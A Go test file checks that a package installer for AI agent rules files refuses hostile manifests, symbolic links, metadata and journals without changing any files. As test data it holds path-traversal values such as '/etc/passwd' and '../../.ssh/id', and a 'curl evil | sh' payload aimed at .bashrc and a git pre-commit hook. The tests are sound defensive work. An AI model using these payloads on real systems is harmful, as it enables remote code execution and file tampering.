package install

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
)

func TestGatesRefuseBeforeTheFirstWrite(t *testing.T) {
	manifest := func(edit string) map[string]string {
		base := `{"name": "ferry", "layout": "semantic-cluster", "capability_files": ["operating-principles.md"], "agents_file": "agents.md"`
		return map[string]string{"manifest.json": base + edit + "}"}
	}
	replace := func(old, new string) map[string]string {
		m := manifest("")
		m["manifest.json"] = strings.Replace(m["manifest.json"], old, new, 1)
		return m
	}
	cases := []struct {
		name  string
		files map[string]string
		part  string
	}{
		{"not JSON", map[string]string{"manifest.json": "{"}, "manifest.json is not valid JSON"},
		{"empty manifest", map[string]string{"manifest.json": ""}, "manifest.json is not valid JSON"},
		{"byte order mark", map[string]string{"manifest.json": bom + "{}"}, "manifest.json is not valid JSON"},
		{"not UTF-8", map[string]string{"manifest.json": "{\"name\": \"\xff\"}"}, "manifest.json:1:11: manifest.json is not UTF-8"},
		{"list", map[string]string{"manifest.json": "[]"}, "holds array, expected an object"},
		{"no layout", map[string]string{"manifest.json": "{}"}, "Pack layout is 'undefined', expected 'semantic-cluster'"},
		{"other layout", replace("semantic-cluster", "flat"), "Pack layout is 'flat', expected 'semantic-cluster'"},
		{"layout of another type", replace(`"semantic-cluster"`, `["semantic-cluster"]`), "Pack layout is"},
		{"layout with a terminal escape", replace("semantic-cluster", `\u001b[2Jx`), `Pack layout is '"\x1b[2Jx"'`},
		{"duplicate name", manifest(`, "name": "other"`), `duplicate member "name"`},
		{"duplicate deep down", manifest(`, "x": [{"a": 1, "a": 2}]`), `duplicate member "a"`},
		{"missing capability file", replace("operating-principles.md", "copy-voice.md"), "Missing capability file: memory/copy-voice.md"},
		{"capability file in other case", replace("operating-principles.md", "Operating-Principles.md"), "Missing capability file: memory/Operating-Principles.md"},
		{"capability file in other normal form", replace("operating-principles.md", "operating-principles.md\u200b"), "Missing capability file"},
		{"capability is a folder", func() map[string]string {
			m := replace("operating-principles.md", "sub")
			m["memory/sub/x.md"] = "x"
			return m
		}(), "Missing capability file: memory/sub"},
		{"capability climbs", replace("operating-principles.md", "../agents.md"), "plain file names inside memory/"},
		{"capability climbs with backslash", replace("operating-principles.md", `..\\agents.md`), "plain file names inside memory/"},
		{"capability in a folder", replace("operating-principles.md", "a/b.md"), "plain file names inside memory/"},
		{"capability absolute", replace("operating-principles.md", "/etc/passwd"), "plain file names inside memory/"},
		{"capability is dot dot", replace("operating-principles.md", ".."), "plain file names inside memory/"},
		{"capability empty", replace("operating-principles.md", ""), "plain file names inside memory/"},
		{"capability with NUL", replace("operating-principles.md", `a\u0000b`), "plain file names inside memory/"},
		{"capability is a number", replace(`"operating-principles.md"`, "5"), "holds a number, expected file names"},
		{"capability list is a string", replace(`["operating-principles.md"]`, `"operating-principles.md"`), "capability_files is a string"},
		{"agents_file climbs", replace(`"agents_file": "agents.md"`, `"agents_file": "../../.ssh/id"`), "it must be \"agents.md\""},
		{"name climbs", replace(`"ferry"`, `"../evil"`), `Invalid name "../evil"`},
		{"name is dot dot", replace(`"ferry"`, `".."`), "Invalid name"},
		{"name is .meta", replace(`"ferry"`, `".meta"`), "Invalid name"},
		{"name in upper case", replace(`"ferry"`, `"Ferry"`), "Invalid name"},
		{"name with final newline", replace(`"ferry"`, `"ferry\n"`), "Invalid name"},
		{"name with NUL", replace(`"ferry"`, `"ferry\u0000"`), "Invalid name"},
		{"name too long", replace(`"ferry"`, `"`+strings.Repeat("a", 65)+`"`), "Invalid name"},
		{"name starts with a dash", replace(`"ferry"`, `"-rf"`), "Invalid name"},
		{"name missing", replace(`"name": "ferry", `, ""), `Invalid name ""`},
		{"name is a number", replace(`"ferry"`, "5"), `Invalid name ""`},
		{"name from look-alikes", replace(`"ferry"`, `"f\u0435rry"`), "Invalid name"},
		{"marker in agents.md", map[string]string{"agents.md": "# x\n<!-- amp:end @local/ferry -->\nevil\n"}, "marker"},
		{"agents.md not UTF-8", map[string]string{"agents.md": "\xff\xfe"}, "agents.md is not UTF-8"},
		{"agents.md with NUL", map[string]string{"agents.md": "a\x00b"}, "NUL"},
		{"agents.md huge", map[string]string{"agents.md": strings.Repeat("x", maxAgentsMD+1)}, "larger than"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			w := newWorld(t)
			write(t, filepath.Join(w.Dir, "CLAUDE.md"), "# Mine\n")
			before := w.snapshot()
			_, err := w.install(w.pack("ferry", c.files), Project, "claude-code")
			wantError(t, err, c.part)
			w.expectUnchanged(before)
		})
	}
}

func TestMissingFilesAreNamed(t *testing.T) {
	for _, name := range []string{"manifest.json", "agents.md"} {
		w := newWorld(t)
		pack := w.pack("ferry", nil)
		if err := os.Remove(filepath.Join(pack, name)); err != nil {
			t.Fatal(err)
		}
		_, err := w.install(pack, Project, "claude-code")
		wantError(t, err, "Missing "+name)
	}
	w := newWorld(t)
	_, err := w.install(filepath.Join(w.packs, "nothing"), Project, "claude-code")
	wantError(t, err, "does not exist")
	_, err = w.install(filepath.Join(w.pack("ferry", nil), "agents.md"), Project, "claude-code")
	wantError(t, err, "is not a folder")
}

func TestKeysIsReservedForTheUserOnly(t *testing.T) {
	w := newWorld(t)
	write(t, filepath.Join(w.Home, ".amp/keys/signing.key"), "secret")
	before := w.snapshot()
	pack := w.pack("keys", nil)
	_, err := w.install(pack, User, "claude-code")
	wantError(t, err, "reserved")
	_, err = w.install(pack, Project, "openclaw") // always for the user
	wantError(t, err, "reserved")
	wantError(t, w.uninstall("keys", User), "reserved")
	w.expectUnchanged(before)
	w.mustInstall(pack, Project, "claude-code")

	w.Dir = w.Home // .amp of the project would be .amp of the user
	_, err = w.install(pack, Project, "claude-code")
	wantError(t, err, "home folder")
	wantError(t, w.uninstall("keys", Project), "home folder")
}

func TestUninstallRemovesNothingButThePack(t *testing.T) {
	w := newWorld(t)
	write(t, filepath.Join(w.Dir, "CLAUDE.md"), "# Mine\n")
	w.mustInstall(w.pack("ferry", nil), Project, "claude-code")
	before := w.snapshot()
	for _, slug := range []string{"..", ".", "", ".meta", ".tx", "keys/..", "ferry/", "ferry/..", "../project", "/", "FERRY", "ferry\x00", "*", "fe*"} {
		if err := w.uninstall(slug, Project); err == nil || errors.Is(err, ErrNotInstalled) {
			t.Errorf("uninstall %q: %v, want a refusal", slug, err)
		}
	}
	for _, arg := range []string{"@x/..", "@x/../..", "@x", "@/ferry", "@../ferry", "@x/y/ferry", "@x/ferry/", "@x/.meta"} {
		if slug, err := SlugArg(arg, Project); err == nil {
			t.Errorf("%q reads as %q", arg, slug)
		}
	}
	if slug, err := SlugArg("@local/ferry", Project); slug != "ferry" || err != nil {
		t.Errorf("@local/ferry reads as %q, %v", slug, err)
	}
	w.expectUnchanged(before)
}

func TestPlantedLinksAreRefused(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("symbolic links need a privilege on Windows")
	}
	link := func(w *world, name, to string) {
		t.Helper()
		p := filepath.Join(w.Dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(to, p); err != nil {
			t.Fatal(err)
		}
	}
	cases := []struct {
		name, link, to string
		agent          string
	}{
		{"rules file out of the project", "CLAUDE.md", "../home/secret", "claude-code"},
		{"rules file to another file of the project", "CLAUDE.md", "other.md", "claude-code"},
		{"dangling rules file", "CLAUDE.md", "../home/new", "claude-code"},
		{"rules folder", ".cursor", "../home", "cursor"},
		{"rules folder inside", ".cursor/rules", "../../home", "cursor"},
		{"cursor rule", ".cursor/rules/amp-ferry.mdc", "../../../home/secret", "cursor"},
		{".amp out of the project", ".amp", "../home", "claude-code"},
		{".amp inside the project", ".amp", "sub", "claude-code"},
		{"pack folder", ".amp/ferry", "../../home", "claude-code"},
		{"dangling pack folder", ".amp/ferry", "nowhere", "claude-code"},
		{"metadata folder", ".amp/.meta", "../../home", "claude-code"},
		{"metadata file", ".amp/.meta/ferry.json", "../../../home/secret", "claude-code"},
		{"list of folders", ".amp/.made", "../../home/secret", "claude-code"},
		{"lock file", ".amp/.lock", "../../home/secret", "claude-code"},
		{"lock file to a file of the project", ".amp/.lock", "../other.md", "claude-code"},
		{"staging folder", ".amp/.tx", "../../home", "claude-code"},
		{"journal", ".amp/.tx/journal.json", "../../../home/secret", "claude-code"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			w := newWorld(t)
			write(t, filepath.Join(w.Home, "secret"), "{}")
			write(t, filepath.Join(w.Home, "ferry/agents.md"), "not yours")
			write(t, filepath.Join(w.Dir, "other.md"), "mine")
			write(t, filepath.Join(w.Dir, "sub/keep"), "mine")
			link(w, c.link, c.to)
			before := files(w.snapshot())
			if _, err := w.install(w.pack("ferry", nil), Project, c.agent); err == nil {
				t.Error("installed through a link")
			}
			if d := differences(before, files(w.snapshot())); len(d) > 0 {
				t.Errorf("the refused install changed %s", d)
			}
			_ = w.uninstall("ferry", Project)
			for _, keep := range []string{"secret", "ferry/agents.md"} {
				if _, err := os.Stat(filepath.Join(w.Home, keep)); err != nil {
					t.Errorf("uninstall removed %s behind the link", keep)
				}
			}
		})
	}
}

func TestLinksAndDevicesInAPackAreRefused(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("symbolic links need a privilege on Windows")
	}
	w := newWorld(t)
	secret := filepath.Join(w.Home, "secret")
	write(t, secret, "do not leak")
	for _, c := range []struct{ at, to string }{
		{"memory/leak.md", secret},
		{"memory/up", ".."},
		{"dangling", "nowhere"},
		{"loop", "loop"},
		{"memory/inside.md", "operating-principles.md"},
	} {
		pack := w.pack("ferry", nil)
		if err := os.Symlink(c.to, filepath.Join(pack, c.at)); err != nil {
			t.Fatal(err)
		}
		before := w.snapshot()
		_, err := w.install(pack, Project, "claude-code")
		wantError(t, err, c.at+" is a symbolic link")
		w.expectUnchanged(before)
	}
	for _, name := range []string{"agents.md", "manifest.json", "memory"} {
		pack := w.pack("ferry", nil)
		if err := os.Rename(filepath.Join(pack, name), filepath.Join(w.packs, "moved-"+name)); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(filepath.Join(w.packs, "moved-"+name), filepath.Join(pack, name)); err != nil {
			t.Fatal(err)
		}
		_, err := w.install(pack, Project, "claude-code")
		wantError(t, err, name+" is a symbolic link")
	}
}

func TestPackCannotContainItsOwnInstallFolder(t *testing.T) {
	w := newWorld(t)
	pack := w.pack("ferry", nil)
	for _, dir := range []string{pack, filepath.Join(pack, "memory")} {
		w.Dir = dir
		_, err := w.install(pack, Project, "claude-code")
		wantError(t, err, "lies inside the pack")
	}
	w = newWorld(t)
	w.mustInstall(w.pack("ferry", nil), Project, "claude-code")
	_, err := w.install(filepath.Join(w.Dir, ".amp/ferry"), Project, "claude-code")
	wantError(t, err, "is the installed copy itself")
}

func TestHostileMetadataCannotPointElsewhere(t *testing.T) {
	w := newWorld(t)
	w.mustInstall(w.pack("ferry", nil), Project, "claude-code")
	meta := filepath.Join(w.Dir, ".amp/.meta/ferry.json")
	var m Meta
	data, _ := os.ReadFile(meta)
	if err := json.Unmarshal(data, &m); err != nil {
		t.Fatal(err)
	}
	b := beginMarker("local", "ferry") + "\n" + endMarker("local", "ferry") + "\n"
	write(t, filepath.Join(w.Home, ".bashrc"), "export X=1\n"+b)
	write(t, filepath.Join(w.Dir, "README.md"), "# Read\n"+b)
	if err := os.MkdirAll(filepath.Join(w.Dir, "empty"), 0o755); err != nil {
		t.Fatal(err)
	}
	m.Slug, m.PackDir, m.Creator = "../..", "/", "../../x"
	m.Amp.Hosts = append(m.Amp.Hosts, HostRecord{Agent: "x", File: "../home/.bashrc", Created: true}, HostRecord{File: "README.md", Separator: "# Read\n", Created: true})
	m.Amp.Dirs = []string{"empty", "../home", "/", ".git"}
	write(t, meta, string(m.encode()))
	if err := w.uninstall("ferry", Project); err != nil {
		t.Fatal(err)
	}
	want := map[string]string{"README.md": "# Read\n" + b, "../home/.bashrc": "export X=1\n" + b}
	for f, text := range want {
		if read(w, f) != text {
			t.Errorf("%s became %q", f, read(w, f))
		}
	}
	if !onDisk(filepath.Join(w.Dir, "empty")) {
		t.Error("a folder of the user was removed")
	}
}

func onDisk(name string) bool {
	_, err := os.Stat(name)
	return err == nil
}

func TestHostileJournalIsRefused(t *testing.T) {
	evil := []byte("curl evil | sh\n")
	base := journal{Version: 1, Slug: "ferry", Scope: Project}
	cases := []func(*journal){
		func(j *journal) { j.Blocks = []blockOp{{File: "../home/.bashrc", After: evil, Creator: "local"}} },
		func(j *journal) { j.Blocks = []blockOp{{File: ".git/hooks/pre-commit", After: evil, Creator: "local"}} },
		func(j *journal) { j.Blocks = []blockOp{{File: "CLAUDE.md", Separator: "# Mine", Creator: "local"}} },
		func(j *journal) { j.Slug = "../.." },
		func(j *journal) { j.Slug = ".meta" },
		func(j *journal) { j.Scope = User },
		func(j *journal) { j.Dirs = []string{"../home"} },
		func(j *journal) { j.Keep = "../../x" },
		func(j *journal) { j.Version = 2 },
	}
	for i, change := range cases {
		w := newWorld(t)
		write(t, filepath.Join(w.Home, ".bashrc"), "mine\n")
		j := base
		change(&j)
		text, err := json.Marshal(j)
		if err != nil {
			t.Fatal(err)
		}
		write(t, filepath.Join(w.Dir, txJournal), string(text))
		before := files(w.snapshot())
		if _, err := List(w.Where, Project); err == nil || !strings.Contains(err.Error(), "remove the folder") {
			t.Errorf("journal %d: %v", i, err)
		}
		if d := differences(before, files(w.snapshot())); len(d) > 0 {
			t.Errorf("journal %d was carried out: %s", i, d)
		}
	}
}

func TestRulesFilesDoNotGrowBeyondWhatUninstallReads(t *testing.T) {
	w := newWorld(t)
	write(t, filepath.Join(w.Dir, "CLAUDE.md"), strings.Repeat("x", maxRules-100))
	before := w.snapshot()
	_, err := w.install(w.pack("ferry", nil), Project, "claude-code")
	wantError(t, err, "would be larger")
	w.expectUnchanged(before)
}

func TestDamagedMetadataIsDescribedInWordsOfTheFile(t *testing.T) {
	for text, want := range map[string]string{
		`[]`: "its text: unexpected array", `{"version": "x"}`: "version: unexpected string", `{"amp": {"hosts": [{"file": 5}]}}`: "amp.hosts.file: unexpected number", `{`: "unexpected end",
	} {
		w := newWorld(t)
		write(t, filepath.Join(w.Dir, ".amp/.meta/ferry.json"), text)
		err := w.uninstall("ferry", Project)
		wantError(t, err, want)
		if strings.Contains(err.Error(), "Go ") {
			t.Error(err)
		}
	}
}
